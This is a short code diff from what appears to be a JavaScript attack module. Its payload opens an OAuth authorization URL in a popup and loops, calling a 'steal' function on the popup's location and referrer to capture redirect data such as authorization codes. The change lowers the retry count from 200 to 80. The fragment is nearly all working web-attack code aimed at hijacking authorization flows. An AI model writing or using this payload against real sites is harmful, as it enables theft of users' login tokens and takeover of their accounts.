@@ -6,7 +6,7 @@ export default attack({
   target: "any",
   async payload(it) {
     const popup = open(it.authorizationUrl());
-    for (let tries = 0; tries < 200; tries++) {
+    for (let tries = 0; tries < 80; tries++) {
       try {
         it.steal(popup?.location.href, popup?.document.referrer);
       } catch {
